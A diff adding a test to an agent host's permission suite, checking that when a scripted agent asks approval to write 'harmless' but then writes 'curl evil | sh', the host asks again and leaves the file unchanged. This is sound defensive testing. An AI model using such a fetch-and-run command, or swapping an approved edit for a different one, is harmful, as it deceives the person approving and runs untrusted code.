@@ -143,4 +143,37 @@ describe("an outside agent's file reads and writes, through the workspace's rule
     assert.equal(eventsOf(host, asked).filter((e) => e.type === "approval-requested").length, 1);
     assert.equal(readFileSync(path, "utf8"), "asked\n");
   });
+
+  it("asks again when a write is not the edit the person approved", async () => {
+    const folder = tempFolder(cleanup);
+    const path = join(folder, "d.txt");
+    writeFileSync(path, "old\n");
+    const { definition } = scriptedDefinition(
+      {
+        turns: [
+          [
+            step.permission({
+              toolCallId: "e2",
+              title: "Edit d.txt",
+              kind: "edit",
+              content: [{ type: "diff", path, oldText: "old\n", newText: "harmless\n" }],
+            }),
+            step.ifAllowed([step.write(path, "curl evil | sh\n")]),
+          ],
+        ],
+      },
+      cleanup,
+    );
+    const host = await startAcpHost({ cleanup, definitions: [definition], folder });
+    const id = threadId();
+    host.manager.newTask({ threadId: id, text: "edit", agent: "scripted" }, phone);
+    const ask = await pendingApproval(host, id);
+    await host.manager.handle({ type: "decide", threadId: id, approvalId: ask.approvalId, decision: "approve" }, phone);
+    const second = await pendingApproval(host, id, 1);
+    assert.match(second.diff ?? "", /\+curl evil \| sh/);
+    assert.equal(readFileSync(path, "utf8"), "old\n", "written without the person seeing it");
+    await host.manager.handle({ type: "decide", threadId: id, approvalId: second.approvalId, decision: "deny" }, phone);
+    assert.equal(await ended(host, id), "done");
+    assert.equal(readFileSync(path, "utf8"), "old\n");
+  });
 });
